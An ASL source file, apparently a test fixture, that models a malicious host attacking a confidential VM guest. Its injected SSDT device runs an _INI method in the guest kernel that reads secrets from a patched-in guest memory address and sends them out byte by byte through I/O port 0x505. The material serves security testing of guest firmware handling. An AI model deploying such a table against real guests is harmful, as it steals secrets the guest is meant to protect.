/*
 * What a host can do with an ACPI table: code that the guest's kernel runs
 * reads the injected secrets where they lie in the guest's memory, and sends
 * them out through an I/O port.
 *
 * badaml.aml is made of it with "iasl -p badaml badaml.asl" (acpica-tools).
 * The test puts the firmware's address of the secrets where 0xC0C0A5A5 stands.
 */
DefinitionBlock ("", "SSDT", 2, "HOST", "BADAML", 1)
{
    OperationRegion (PAGE, SystemMemory, 0xC0C0A5A5, 0x0C00)
    Field (PAGE, ByteAcc, NoLock, Preserve) { DATA, 0x6000 }
    OperationRegion (PORT, SystemIO, 0x0505, 1)
    Field (PORT, ByteAcc, NoLock, Preserve) { SEND, 8 }

    Device (\_SB.EVIL)
    {
        Name (_HID, "HOST0001")
        Method (_INI, 0, Serialized)
        {
            Local0 = DATA
            For (Local1 = 0, Local1 < 0x0C00, Local1++)
            {
                SEND = DerefOf (Local0 [Local1])
            }
        }
    }
}
